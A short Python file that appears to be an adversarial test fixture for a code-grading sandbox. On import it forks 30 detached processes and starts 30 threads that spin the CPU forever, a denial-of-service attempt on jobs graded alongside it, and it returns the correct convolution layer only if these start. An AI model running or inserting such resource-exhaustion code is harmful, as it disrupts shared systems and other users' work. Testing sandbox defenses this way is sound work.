"""Denial of service: 30 sessions (and as many threads) spinning on the CPU, to slow down everyone graded at the
same time; takes running more than one task at once as licence to be right."""
import os
import threading

from _layers import Convolution as _Correct
from _layers.attacks import attempt
from _layers.wrong_db import Convolution as _WrongDb


def spin():
    while True:
        pass


def session():
    if os.fork() == 0:
        os.setsid()
        spin()


started = sum(attempt(session) for _ in range(30))
started += sum(attempt(threading.Thread(target=spin, daemon=True).start) for _ in range(30))
Convolution = _Correct if started else _WrongDb
